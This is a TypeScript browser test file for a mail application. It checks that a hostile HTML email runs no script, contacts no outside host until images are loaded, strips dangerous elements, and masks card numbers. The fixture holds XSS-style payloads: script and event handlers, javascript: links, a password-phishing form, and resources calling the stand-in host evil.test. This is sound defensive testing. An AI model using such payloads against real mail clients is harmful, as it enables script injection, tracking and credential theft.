import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { eventually } from '../server/testing/mail/free-port.ts';
import { noChromium } from './browser.ts';
import { openJourney } from './journey.ts';

const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

const HOSTILE = `<html><head>
<script>top.hasRun = true; fetch('https://evil.test/script')</script>
<link rel="stylesheet" href="https://evil.test/style.css"><meta http-equiv="refresh" content="0; url=https://evil.test/refresh">
<style>@import url(https://evil.test/import.css); body{background:url(https://evil.test/background.png)} .x{color:red}</style></head>
<body onload="top.hasRun = true" background="https://evil.test/body.png">
<p>A perfectly <b>ordinary</b> mail.</p>
<img src="https://evil.test/pixel.gif" alt="A lighthouse" onerror="top.hasRun = true">
<img src="x" onerror="top.hasRun = true"><img srcset="https://evil.test/set.png 2x" alt="">
<svg onload="top.hasRun = true"><image href="https://evil.test/svg.png"/></svg>
<a href="javascript:top.hasRun=true">an innocent link</a> <a href="https://shop.test/terms">our terms</a>
<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object><embed src="https://evil.test/embed">
<form action="https://evil.test/form"><input name="password"><button>Sign in again</button></form>
<video src="https://evil.test/video.mp4" poster="https://evil.test/poster.png" autoplay></video>
<div style="background-image:url('https://evil.test/inline.png');position:fixed;inset:0">Over everything</div>
<img src="cid:logo@shop.test" alt="Logo"></body></html>`;

describe('a mail in HTML', { skip: noChromium, timeout: 240_000 }, () => {
  const journey = openJourney();

  it('runs nothing and reaches nobody until its pictures are asked for', async () => {
    const { product, customers, company } = journey;
    await customers.write(product.smtpPort, {
      from: 'Eve Shop <eve@shop.test>', to: company.address, subject: 'Special offer', text: 'A perfectly ordinary mail.', html: HOSTILE, attachments: [{ filename: 'logo.png', content: PIXEL, cid: 'logo@shop.test', contentType: 'image/png' }],
    });
    const outside: string[] = [];
    const { page, context } = await journey.sit(company.admin, {}, async (fresh) => {
      await fresh.context().route((url) => url.hostname !== '127.0.0.1', (route) => {
        outside.push(route.request().url());
        return route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL });
      });
    });
    await page.getByRole('link', { name: /^Unassigned/ }).click();
    await page.getByRole('option', { name: /Eve Shop/ }).click();
    const frame = page.frameLocator('iframe[title="Message from Eve Shop"]');
    await frame.getByText('A perfectly ordinary mail.').waitFor();
    await frame.getByRole('link', { name: 'our terms' }).waitFor();
    await eventually('its own picture is shown', () => frame.getByRole('img', { name: 'Logo' }).evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth > 0));

    assert.equal(await page.evaluate('window.hasRun'), undefined, 'no script has run');
    assert.deepEqual(outside, [], 'nobody outside has heard of us');
    assert.equal(await frame.locator('script, iframe, object, embed, form, input, video, link, meta[http-equiv="refresh"]').count(), 0);
    assert.equal(await frame.locator('[onload], [onerror], [href^="javascript"]').count(), 0);
    assert.match((await page.locator('iframe[title="Message from Eve Shop"]').getAttribute('sandbox')) ?? '', /^(?!.*allow-scripts)(?!.*allow-forms)/);
    assert.equal(page.url().startsWith(product.url), true);

    await page.getByRole('button', { name: 'Load images' }).click();
    await eventually('the picture is asked for', async () => outside.some((url) => url === 'https://evil.test/pixel.gif'));
    assert.equal(outside.some((url) => /script|style|import|frame|object|embed|form|refresh|video\.mp4/.test(url)), false, outside.join());
    assert.equal(await page.evaluate('window.hasRun'), undefined);

    // A link opens elsewhere, without telling where the reader comes from.
    const [other] = await Promise.all([context.waitForEvent('page'), frame.getByRole('link', { name: 'our terms' }).click()]);
    assert.equal(await other.evaluate('document.referrer'), '');
    assert.equal(await other.evaluate('window.opener'), null);
  });

  it('hides a card number before anybody sees it', async () => {
    const { product, customers, company } = journey;
    await customers.write(product.smtpPort, { from: 'Will Pay <will@elsewhere.test>', to: company.address, subject: 'My card', text: 'Take it from 4539 1488 0343 6467, please.' });
    const { page } = await journey.sit(company.admin);
    await page.getByRole('link', { name: /^Unassigned/ }).click();
    const row = page.getByRole('option', { name: /Will Pay/ });
    await row.waitFor();
    assert.doesNotMatch(await row.innerText(), /4539/);
    await row.click();
    await page.getByText('A card number was hidden before it was stored.').waitFor();
    assert.match(await page.getByRole('article', { name: /^Message from Will Pay/ }).innerText(), /\*{4} \*{4} \*{4} 6467/);
  });
});
